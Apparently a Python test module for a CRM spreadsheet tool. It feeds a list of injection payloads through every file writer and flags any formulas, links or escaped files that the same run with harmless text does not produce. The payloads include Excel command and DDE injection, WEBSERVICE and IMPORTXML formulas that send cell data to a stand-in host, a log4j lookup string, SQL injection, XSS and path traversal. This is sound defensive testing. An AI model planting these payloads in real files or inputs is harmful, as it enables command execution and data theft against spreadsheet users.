"""Texts that some program would run, in every place a person can type, through everything that writes a file.

What a writer made of them is compared with what it makes of harmless texts: formulas, links, fields and parts may not
be others. Source of the list: OWASP, CSV Injection; XlsxWriter and ECMA-376 18.18.22 for _xHHHH_; full-width signs as
Excel takes them under a Chinese input method.
"""

from __future__ import annotations

import csv
import re
import tempfile
import zipfile
from collections.abc import Callable, Iterator, Sequence
from datetime import date
from pathlib import Path
from typing import Any

from lxml import etree

from crm_xl.analysis.progress import quiet
from crm_xl.books import sidecar
from crm_xl.books.file import FileBook
from crm_xl.books.protocol import Block
from crm_xl.books.sidecar import write_fitting
from crm_xl.builder.build import author_workbook
from crm_xl.builder.draft import Draft
from crm_xl.builder.specs import CUSTOMER_GRADING
from crm_xl.importing import plan_import
from crm_xl.masking import mask_copy
from crm_xl.refreshing import refresh
from crm_xl.report import write_report
from crm_xl.schema import Role
from crm_xl.sources import Rules, read_files
from crm_xl.splitting import split
from crm_xl.tables import TABLES
from crm_xl.tables.inputs import CONTACTS, CUSTOMERS, INTERACTIONS, ORDERS
from tests.books.samples import book
from torture.survive import Figures

PAYLOADS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example","点我")', "+1+1", "-1+1", "@SUM(1,1)",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", '"=1+1', "=", "+", "-", "@",
    "=IMPORTXML(CONCAT(\"http://x.example/?\",A1),\"//a\")", "+86 10 8765", "-负数", "@张伟", "=①",
    "{=1+1}", '=WEBSERVICE("http://x.example/"&A1)', "=DDE(\"cmd\";\"/C calc\";\"x\")", "\u00a0=1+1", "\u3000=1+1",
    "\ufeff=1+1", "\u200b=1+1", "\u202e1+1=", "\u2028=1+1", "_x003D_1+1", "_x000D_", "x\",\"=1+1", "x;=1+1",
    "]]><f>1+1</f><!--", "</t></is></c><c><f>1+1</f></c>", "&lt;f&gt;", "&#61;1+1", "<script>alert(1)</script>",
    "[x](javascript:alert(1))", "![x](http://x.example/p.png)", "`x`|y|", "'; DROP TABLE tblOrders;--", "{{7*7}}",
    "${jndi:ldap://x.example}", "%s%n%x", "[bold red]x[/bold red]", "../../escaped", "..\\..\\escaped", "/etc/escaped",
    "CON", "NUL.xlsx", "a:b", "x\n=1+1", "长" * 300,
)  # fmt: skip
# What might lead a file elsewhere.
NAMES = ("../../escaped", "..\\..\\escaped", "/etc/escaped", "CON", "NUL.xlsx", "a:b", "=1+1", "长" * 300)
BEGINNINGS = frozenset("=+-@＝＋－＠\t\r\n")
_HARMLESS = tuple(f"平常{number:03}" for number in range(len(PAYLOADS)))
_CUSTOMERS = 3  # payloads are names of customers, owners and products; each is given some rows


def workbook(folder: Path, texts: Sequence[str]) -> Path:
    """Customers, owners, contacts, products and remarks called by the texts, and every output."""
    rows: dict[str, tuple[list[str], list[list[Any]]]] = {
        CUSTOMERS.name: (
            ["customer_id", "customer_name", "customer_type", "owner", "industry", "remark"],
            [[f"C{n}", text, "企业", text, text, text] for n, text in enumerate(texts)],
        ),
        CONTACTS.name: (
            ["contact_id", "customer_id", "contact_name", "position"],
            [[f"P{n}", f"C{n}", text, text] for n, text in enumerate(texts)],
        ),
        ORDERS.name: (
            ["order_id", "customer_id", "order_date", "amount", "product_type", "region"],
            [
                [f"S{n}", f"C{n % len(texts)}", date(2026, 1 + n % 6, 3), 100.0 + n, texts[n % len(texts)], texts[n % len(texts)]]
                for n in range(_CUSTOMERS * len(texts))
            ] + [[text, text, text, text, text, text] for text in texts],
        ),
        INTERACTIONS.name: (
            ["interaction_id", "customer_id", "interaction_time", "summary", "follower", "quote", "next_action"],
            [[f"I{n}", f"C{n}", date(2026, 3, 1), text, text, text, text] for n, text in enumerate(texts)],
        ),
    }  # fmt: skip
    made: dict[str, Any] = {}
    for name, (columns, cells) in rows.items():
        table = TABLES[name]
        made[name] = (table.sheet, 4, 1, [table.column(each).title for each in columns], cells)
    for table in TABLES.values():
        if table.role is Role.OUTPUT:
            made[table.name] = (f"出{table.name[3:]}", 4, 1, list(table.titles), [])
    return book(folder / "客户.xlsx", made)


def _written(folder: Path, texts: Sequence[str]) -> None:
    path = book(folder / "a.xlsx", {"tblX": ("表", 1, 1, ("编号", "内容"), [(0, "x")])})
    block = Block(headings=("编号", *texts[:1]), rows=list(enumerate(texts)))
    FileBook(path).write({"tblX": block}, {})


def _refreshed(folder: Path, texts: Sequence[str]) -> None:
    refresh(workbook(folder, texts), analysis_date="2026-06-30")


def _masked(folder: Path, texts: Sequence[str]) -> None:
    mask_copy(workbook(folder, texts))


def _split(folder: Path, texts: Sequence[str]) -> None:
    # Owners become names of files; each costs a refresh.
    split(workbook(folder, [text for text, payload in zip(texts, PAYLOADS, strict=True) if payload in NAMES]))


def _reported(folder: Path, texts: Sequence[str]) -> None:
    write_report(workbook(folder, texts), folder / "报告.docx", with_markdown=True)


def _built(folder: Path, texts: Sequence[str]) -> None:
    draft = Draft(CUSTOMER_GRADING, samples=False)
    width = len(CUSTOMERS.columns)
    rows = [(f"C{n}", text, *[None] * (width - 2)) for n, text in enumerate(texts)]
    draft.write({CUSTOMERS.name: Block(headings=CUSTOMERS.titles, rows=rows)}, {"CRM_STATUS": texts[1]})
    author_workbook(folder / "t.xlsx", draft)


def _imported(folder: Path, texts: Sequence[str]) -> None:
    with (folder / "新.csv").open("w", encoding="utf-8-sig", newline="") as file:
        lines = csv.writer(file)
        lines.writerow(("客户编号", "客户名称", "行业", "备注"))
        lines.writerows((f"N{n}", text, text, text) for n, text in enumerate(texts))
    into = FileBook(workbook(folder, ["一", "二", "三"]))
    incoming = read_files([folder / "新.csv"], Rules(remembered=False), quiet, (0.0, 0.5))
    plan_import(into, incoming, progress=quiet).carry_out(into)
    (folder / "新.csv").unlink()


def _beside(folder: Path, texts: Sequence[str]) -> None:
    path = book(folder / "a.xlsx", {"tblX": ("表", 1, 1, ("编号", "内容"), [(0, "x")])})
    before, sidecar.LAST_ROW = sidecar.LAST_ROW, 5
    try:
        block = Block(headings=(texts[0], "内容"), rows=list(enumerate(texts)))
        write_fitting(FileBook(path), {"tblX": block}, {})
    finally:
        sidecar.LAST_ROW = before


WRITERS: dict[str, Callable[[Path, Sequence[str]], None]] = {
    "a table": _written, "a refresh": _refreshed, "an import": _imported, "a masked copy": _masked,
    "a split": _split, "a report": _reported, "a new workbook": _built, "a file beside the workbook": _beside,
}  # fmt: skip


def try_payloads(figures: Figures, writers: Sequence[str] = tuple(WRITERS)) -> None:
    """Every payload through the writers; what they wrote must do no more than with harmless texts."""
    for name in writers:
        with tempfile.TemporaryDirectory() as one, tempfile.TemporaryDirectory() as other:
            harmful, harmless = Path(one) / "in", Path(other) / "in"
            for folder, texts in ((harmful, PAYLOADS), (harmless, _HARMLESS)):
                folder.mkdir()
                WRITERS[name](folder, texts)
            figures.counts["payloads tried"] += len(NAMES if name == "a split" else PAYLOADS)
            figures.counts["payloads: writers"] += 1
            figures.wrong += [f"{name}: {fault}" for fault in faults(harmful, harmless)]
            figures.wrong += [
                f"{name}: {each.name} was written outside" for each in Path(one).iterdir() if each != harmful
            ]


def faults(harmful: Path, harmless: Path) -> Iterator[str]:
    """What the files of one folder do that those of the other do not."""
    found, expected = (
        set[str]().union(*(active(path) for path in folder.rglob("*") if path.is_file()))
        for folder in (harmful, harmless)
    )
    yield from sorted(found - expected)
    if not found and not expected:
        yield "nothing was written"
    for path in harmful.rglob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as file:
            for line in csv.reader(file):
                yield from (f"{path.name} holds {cell!r}" for cell in line if _runs(cell))
    for path in harmful.rglob("*.md"):
        yield from (f"{path.name}: {what}" for what in _live_markdown(path.read_text(encoding="utf-8")))


def _runs(cell: str) -> bool:
    bare = cell.lstrip("\u00a0\u3000\ufeff\u200b\u202e\u2028 ")
    return bare[:1] in BEGINNINGS and not _number(cell) if bare else False


def _number(cell: str) -> bool:
    return re.fullmatch(r"-?[0-9.]+", cell) is not None


_OWN_LINK = re.compile("|".join(f"'{re.escape(table.sheet)}'![A-Z]+[0-9]+" for table in TABLES.values()))
# Elements whose text or attributes a program acts on.
_ACTIVE = {
    "f", "definedName", "formula1", "formula2", "formula", "calculatedColumnFormula", "hyperlink", "ddeLink", "oleLink",
    "externalReference", "instrText", "fldSimple", "altChunk", "oleObject", "control", "webPublishItem", "script",
}  # fmt: skip


def active(path: Path) -> set[str]:
    """Each formula, name, link, field and kind of part of a package; of another file, that there is one."""
    if not zipfile.is_zipfile(path):
        return {f"a file {path.suffix}"}
    found = {f"a package {path.suffix}"}
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            found.add(f"a part {re.sub(r'[0-9]+', '', name)}")
            if not name.endswith((".xml", ".rels", ".vml")):
                continue
            for element in etree.fromstring(package.read(name)).iter():
                kind = etree.QName(element).localname if isinstance(element.tag, str) else "remark"
                if kind == "hyperlink" and _OWN_LINK.fullmatch(element.get("location", "")):
                    continue  # from the ledger to the cell it speaks of
                if kind in _ACTIVE:
                    found.add(f"{kind} {_shape(element)}")
                elif kind == "Relationship" and element.get("TargetMode") == "External":
                    found.add(f"a link to {element.get('Target')}")
    return found


def _shape(element: etree._Element) -> str:
    """What the element does, numbers of rows aside: how many there are follows the data."""
    text = "".join(map(str, element.itertext()))
    where = element.get("location") or element.get("name") or ""
    return re.sub(r"[0-9]+", "0", f"{where} {text}")


def _live_markdown(text: str) -> Iterator[str]:
    """Markup that a reader of Markdown would act on and that no report of ours holds."""
    bare = re.sub(r"\\.", "", text)
    yield from re.findall(r"<script|javascript:(?=[^)]*\))(?<=\]\(javascript:)|!\[[^\]]*\]\(http", bare)
